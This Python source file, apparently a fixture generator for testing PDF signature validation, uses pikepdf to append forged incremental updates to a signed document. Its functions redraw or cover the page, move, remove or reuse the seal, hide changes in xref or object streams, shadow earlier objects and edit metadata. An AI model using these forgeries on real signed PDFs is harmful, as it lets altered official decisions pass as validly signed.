"""What a forger writes behind a signed PDF, byte by byte, without any library's scruples."""

import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field

import pikepdf
from pikepdf import Array, Dictionary, Name

LIE = b"BT /F1 20 Tf 40 700 Td (KHONG DONG Y. Tu choi ho so.) Tj ET"
WHITE = b"1 g 0 0 595 842 re f 0 g " + LIE
HELVETICA = b"<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
FIELD, NOTE = "signature field", "note"


@dataclass
class Increment:
    """Objects to be appended to a file. `pdf` may be edited before its objects are put."""

    signed: bytes
    objects: dict[int, bytes] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.pdf = pikepdf.open(io.BytesIO(self.signed))
        self.size = int(self.pdf.trailer.Size)
        self.root = self.pdf.Root.objgen[0]
        self.page = self.pdf.pages[0].obj
        self.trailer = b""
        info = self.pdf.trailer.get("/Info")
        if info is not None and info.is_indirect:
            self.trailer = b"/Info %d 0 R" % info.objgen[0]

    def put(self, body: bytes, number: int | None = None) -> int:
        if number is None:
            number, self.size = self.size, self.size + 1
        self.objects[number] = body
        return number

    def put_stream(self, content: bytes, keys: bytes = b"", number: int | None = None) -> int:
        head = b"<<%s/Length %d>>" % (keys, len(content))
        return self.put(b"%s\nstream\n%s\nendstream" % (head, content), number)

    def put_again(self, *edited: pikepdf.Object) -> None:
        for thing in edited:
            self.put(thing.unparse(resolved=True), thing.objgen[0])

    def refer(self, number: int) -> pikepdf.Object:
        """Return a reference to an object that is in this increment only."""
        while len(self.pdf.objects) < number:
            self.pdf.make_indirect(Dictionary())
        return self.pdf.get_object(number, 0)

    def previous(self) -> int:
        return int(re.findall(rb"startxref\s+(\d+)", self.signed)[-1])

    def bodies(self) -> tuple[bytes, dict[int, int]]:
        out, places = b"\n", {}
        for number, body in sorted(self.objects.items()):
            places[number] = len(self.signed) + len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        return out, places

    def write(
        self, *, end: bytes = b"%%EOF\n", start: int | None = None, prev: bytes | None = None
    ) -> bytes:
        out, places = self.bodies()
        table = len(self.signed) + len(out)
        out += xref(places)
        before = b"/Prev %d" % self.previous() if prev is None else prev
        keys = b"/Size %d/Root %d 0 R%s%s" % (self.size, self.root, before, self.trailer)
        out += b"trailer\n<<%s>>\nstartxref\n%d\n" % (keys, table if start is None else start)
        return self.signed + out + end


def xref(places: dict[int, int]) -> bytes:
    rows = (b"%d 1\n%010d 00000 n \n" % place for place in sorted(places.items()))
    return b"xref\n" + b"".join(rows)


def xref_stream(places: dict[int, tuple[int, int, int]], keys: bytes) -> bytes:
    """Write the table as a stream (ISO 32000-2, 7.5.8), not compressed."""
    index = b" ".join(b"%d 1" % number for number in sorted(places))
    rows = b"".join(
        bytes([kind]) + one.to_bytes(4) + two.to_bytes(2)
        for _number, (kind, one, two) in sorted(places.items())
    )
    head = b"<</Type/XRef/W[1 4 2]/Index[%s]/Length %d%s>>" % (index, len(rows), keys)
    return b"%s\nstream\n%s\nendstream" % (head, rows)


def redrawn(signed: bytes) -> Increment:
    """Draw page 1 anew, as the forger likes it."""
    one = Increment(signed)
    content = one.put_stream(WHITE)
    parent = one.page.Parent.objgen[0]
    body = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources%s/Contents %d 0 R>>"
    one.put(body % (parent, HELVETICA, content), one.page.objgen[0])
    return one


def with_page_edited(edit: Callable[[pikepdf.Object], None]) -> Callable[[bytes], bytes]:
    def forge(signed: bytes) -> bytes:
        one = Increment(signed)
        edit(one.page)
        one.put_again(one.page)
        return one.write()

    return forge


def with_catalogue_edited(edit: Callable[[pikepdf.Object], None]) -> Callable[[bytes], bytes]:
    def forge(signed: bytes) -> bytes:
        one = Increment(signed)
        edit(one.pdf.Root)
        one.put_again(one.pdf.Root)
        return one.write()

    return forge


def with_mark(keys: bytes, *, is_field: bool = False, draws: bool = True) -> Callable[..., bytes]:
    """Lay something over the page: a note, a stamp, a field."""

    def forge(signed: bytes) -> bytes:
        one = Increment(signed)
        form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources%s" % HELVETICA
        look = one.put_stream(WHITE, form) if draws else 0
        appearance = b"/AP<</N %d 0 R>>" % look if draws else b""
        head = b"<</Type/Annot/F 4/Rect[0 0 595 842]%s%s>>"
        mark = one.refer(one.put(head % (appearance, keys)))
        one.page.Annots.append(mark)
        one.put_again(one.page)
        if is_field:
            one.pdf.Root.AcroForm.Fields.append(mark)
            one.put_again(indirect(one, one.pdf.Root.AcroForm))
        return one.write()

    return forge


def indirect(one: Increment, form: pikepdf.Object) -> pikepdf.Object:
    return form if form.is_indirect else one.pdf.Root


def widgets(one: Increment, start: str) -> list[pikepdf.Object]:
    return [mark for mark in one.page.Annots if str(mark.get("/T", "")).startswith(start)]


def with_widget_edited(
    start: str, edit: Callable[[Increment, pikepdf.Object], None]
) -> Callable[[bytes], bytes]:
    def forge(signed: bytes) -> bytes:
        one = Increment(signed)
        mark = widgets(one, start)[0]
        edit(one, mark)
        one.put_again(mark)
        return one.write()

    return forge


def covering(one: Increment, mark: pikepdf.Object) -> None:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources%s" % HELVETICA
    look = one.refer(one.put_stream(WHITE, form))
    mark.AP = Dictionary(N=look)
    mark.Rect = Array([0, 0, 595, 842])


def moved(_one: Increment, mark: pikepdf.Object) -> None:
    mark.Rect = Array([20, 20, 200, 200])


def another_reason(_one: Increment, mark: pikepdf.Object) -> None:
    value = mark.V
    mark.V = Dictionary({**dict(value.items()), "/Reason": "Từ chối"})


def widget_removed(signed: bytes) -> bytes:
    one = Increment(signed)
    seal = widgets(one, "CoQuan")[0]
    one.page.Annots = Array([mark for mark in one.page.Annots if mark.objgen != seal.objgen])
    one.put_again(one.page)
    return one.write()


def field_with_value_of_another(signed: bytes) -> bytes:
    """A new field that shows the forger's words and claims the seal's own signature."""
    one = Increment(signed)
    number = widgets(one, "CoQuan")[0].V.objgen[0]
    return with_mark(
        b"/Subtype/Widget/FT/Sig/T(Khac)/V %d 0 R/P %d 0 R" % (number, one.page.objgen[0]),
        is_field=True,
    )(signed)


def streams_overwritten(is_meant: Callable[[pikepdf.Object], bool]) -> Callable[[bytes], bytes]:
    """Put other bytes in place of every stream of a kind."""

    def forge(signed: bytes) -> bytes:
        one = Increment(signed)
        for thing in [t for t in one.pdf.objects if isinstance(t, pikepdf.Stream) and is_meant(t)]:
            thing.write(b"\x00" * 400)
            keys = pikepdf.Dictionary({k: v for k, v in thing.items() if k != "/Length"})
            one.put_stream(thing.read_raw_bytes(), keys.unparse()[2:-2], thing.objgen[0])
        assert one.objects, "there is something to replace"
        return one.write()

    return forge


def is_of_kind(subtype: str) -> Callable[[pikepdf.Object], bool]:
    return lambda thing: str(thing.get("/Subtype")) == subtype


def fonts_replaced(signed: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(signed)) as pdf:
        programs = {
            thing[key].objgen
            for thing in pdf.objects
            for key in ("/FontFile2", "/FontFile3")
            if isinstance(thing, pikepdf.Dictionary) and key in thing
        }
    return streams_overwritten(lambda thing: thing.objgen in programs)(signed)


def page_added(signed: bytes) -> bytes:
    one = Increment(signed)
    content = one.put_stream(WHITE)
    tree = one.pdf.Root.Pages
    body = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources%s/Contents %d 0 R>>"
    page = one.refer(one.put(body % (tree.objgen[0], HELVETICA, content)))
    tree.Kids.append(page)
    tree.Count = 2
    one.put_again(tree)
    return one.write()


def another_catalogue(signed: bytes) -> bytes:
    one = Increment(signed)
    content = one.put_stream(WHITE)
    tree, page = one.size, one.size + 1
    one.put(b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % page)
    body = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources%s/Contents %d 0 R>>"
    one.put(body % (tree, HELVETICA, content))
    form = one.pdf.Root.AcroForm.unparse()
    one.root = one.put(b"<</Type/Catalog/Pages %d 0 R/AcroForm %s>>" % (tree, form))
    return one.write()


def by_table_stream(signed: bytes) -> bytes:
    """The increment's table is a stream, without a trailer of its own."""
    one = redrawn(signed)
    out, places = one.bodies()
    at, number = len(signed) + len(out), one.size
    rows = {n: (1, place, 0) for n, place in places.items()} | {number: (1, at, 0)}
    keys = b"/Size %d/Root %d 0 R/Prev %d" % (number + 1, one.root, one.previous())
    out += b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (number, xref_stream(rows, keys), at)
    return signed + out


def by_object_stream(signed: bytes) -> bytes:
    """The page stands inside a stream of objects, where no search by eye finds it."""
    one = redrawn(signed)
    page = one.page.objgen[0]
    body = one.objects.pop(page)
    head = b"%d 0 " % page
    holder = one.put_stream(head + body, b"/Type/ObjStm/N 1/First %d" % len(head))
    out, places = one.bodies()
    at, number = len(signed) + len(out), one.size
    rows = {n: (1, place, 0) for n, place in places.items()} | {number: (1, at, 0)}
    rows[page] = (2, holder, 0)
    keys = b"/Size %d/Root %d 0 R/Prev %d" % (number + 1, one.root, one.previous())
    out += b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (number, xref_stream(rows, keys), at)
    return signed + out


def by_hybrid_table(signed: bytes) -> bytes:
    """An empty table beside a stream that replaces the page, for readers that know streams."""
    one = redrawn(signed)
    out, places = one.bodies()
    at, number = len(signed) + len(out), one.size
    rows = {n: (1, place, 0) for n, place in places.items()} | {number: (1, at, 0)}
    out += b"%d 0 obj\n%s\nendobj\n" % (number, xref_stream(rows, b"/Size %d" % (number + 1)))
    table = len(signed) + len(out)
    keys = b"/Size %d/Root %d 0 R/Prev %d/XRefStm %d"
    keys %= (number + 1, one.root, one.previous(), at)
    out += b"xref\n0 0\ntrailer\n<<%s>>\nstartxref\n%d\n%%%%EOF\n" % (keys, table)
    return signed + out


def objects_only(signed: bytes) -> bytes:
    """No table at all: only a reader that rebuilds its own sees the page."""
    return signed + redrawn(signed).bodies()[0]


def objects_then_padding(signed: bytes) -> bytes:
    """So much behind the end that a reader no longer finds where the table begins."""
    return objects_only(signed) + b"\n%" + b"x" * 5000


def with_object_freed(signed: bytes) -> bytes:
    one = Increment(signed)
    seal = widgets(one, "CoQuan")[0].objgen[0]
    table = len(signed) + 1
    out = b"\nxref\n%d 1\n%010d 00001 f \n" % (seal, 0)
    keys = b"/Size %d/Root %d 0 R/Prev %d" % (one.size, one.root, one.previous())
    out += b"trailer\n<<%s>>\nstartxref\n%d\n%%%%EOF\n" % (keys, table)
    return signed + out


def with_earlier_objects_back(signed: bytes) -> bytes:
    """Point the table at what an earlier revision had under the same number (a shadow)."""
    one = Increment(signed)
    number = one.page.objgen[0]
    place = re.search(rb"\b%d 0 obj" % number, signed)
    assert place is not None
    table = len(signed) + 1
    out = b"\n" + xref({number: place.start()})
    keys = b"/Size %d/Root %d 0 R/Prev %d" % (one.size, one.root, one.previous())
    out += b"trailer\n<<%s>>\nstartxref\n%d\n%%%%EOF\n" % (keys, table)
    return signed + out


def with_title(signed: bytes) -> bytes:
    one = Increment(signed)
    info = one.put(b"<</Title(Quyet dinh tu choi)/Author(Ke gia mao)>>")
    one.trailer = b"/Info %d 0 R" % info
    return one.write()


def with_xmp(signed: bytes) -> bytes:
    one = Increment(signed)
    stream = one.pdf.Root.Metadata
    packet = stream.read_bytes().replace("Giấy xác nhận".encode(), "Giấy từ chối".encode())
    one.put_stream(packet, b"/Type/Metadata/Subtype/XML", stream.objgen[0])
    return one.write()


def script() -> pikepdf.Object:
    return Dictionary(S=Name.JavaScript, JS="app.alert('x')")


def without_seal_by_rewriting(signed: bytes) -> bytes:
    """A tidy program saves the file whole: every byte under the signatures is another."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(signed)) as pdf:
        pdf.save(out)
    return out.getvalue()
